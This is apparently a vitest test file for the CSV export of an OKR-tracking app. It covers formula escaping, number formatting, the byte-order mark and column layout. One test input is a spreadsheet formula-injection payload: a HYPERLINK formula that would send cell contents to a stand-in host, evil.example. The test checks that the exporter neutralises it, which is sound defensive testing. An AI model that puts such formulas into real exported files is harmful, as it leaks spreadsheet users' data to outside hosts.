import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { domainExamples } from '../examples/domain-examples';
import { CSV_COLUMNS, exportOkrSetCsv, neutraliseFormula, parseNumberCell, rowsToCsv } from './index';

describe('rowsToCsv', () => {
  it('given a cell that starts like a formula, it prefixes a quote so a spreadsheet shows text', () => {
    const csv = rowsToCsv([{ header: 'title', value: (row: { title: string }) => row.title }], [
      { title: '=HYPERLINK("https://evil.example/?d="&A1,"Click")' },
      { title: '+1' },
      { title: '-2+3' },
      { title: '@SUM(A1)' },
      { title: '\tTab' },
      { title: '\rCR' },
      { title: 'Plain = fine' },
    ]);
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.slice(1).map((row) => row[0]);
    expect(cells).toEqual([`'=HYPERLINK("https://evil.example/?d="&A1,"Click")`, "'+1", "'-2+3", "'@SUM(A1)", "'\tTab", "'\rCR", 'Plain = fine']);
  });

  it('given numbers, it writes them plainly (negative numbers stay numbers, NaN becomes an empty cell)', () => {
    const csv = rowsToCsv([{ header: 'n', value: (row: { n: number }) => row.n }], [{ n: -3.5 }, { n: 1e21 }, { n: Number.NaN }, { n: 0.1 + 0.2 }]);
    expect(csv).toBe('n\r\n-3.5\r\n1e+21\r\n\r\n0.30000000000000004\r\n');
    expect(parseNumberCell('1e+21')).toEqual({ ok: true, value: 1e21 });
  });

  it('given bom, it starts with a UTF-8 byte-order mark for spreadsheet apps', () => {
    expect(rowsToCsv([{ header: 'a', value: () => 'é' }], [{}], { bom: true })).toBe('\uFEFFa\r\né\r\n');
  });
});

describe('exportOkrSetCsv', () => {
  it('writes the documented header and one row per key result, objectives without KRs on their own row', () => {
    const set = {
      objectives: [
        { id: 'o1', title: 'Grow', periodId: 'q1', priority: 1 },
        { id: 'o2', title: 'No KRs yet', periodId: 'q1' },
      ],
      keyResults: [
        { id: 'k2', objectiveId: 'o1', title: 'Second', position: 2, metric: { kind: 'binary' as const, done: true } },
        { id: 'k1', objectiveId: 'o1', title: 'First', position: 1, metric: { kind: 'numeric' as const, direction: 'increase' as const, start: 0, target: 1.5, current: 0.75, unit: { kind: 'currency' as const, currency: 'EUR' } } },
      ],
    };
    const rows = Papa.parse<Record<string, string>>(exportOkrSetCsv(set), { header: true, skipEmptyLines: true });
    expect(rows.meta.fields).toEqual([...CSV_COLUMNS]);
    expect(rows.data.map((row) => [row.objective_id, row.key_result_id, row.target, row.current, row.unit])).toEqual([
      ['o1', 'k1', '1.5', '0.75', 'EUR'],
      ['o1', 'k2', '', 'true', ''],
      ['o2', '', '', '', ''],
    ]);
  });

  it('exports the domain examples without NaN or formulas', () => {
    const csv = exportOkrSetCsv(domainExamples);
    expect(csv).not.toMatch(/NaN|undefined/);
    expect(neutraliseFormula('-')).toBe("'-");
  });
});
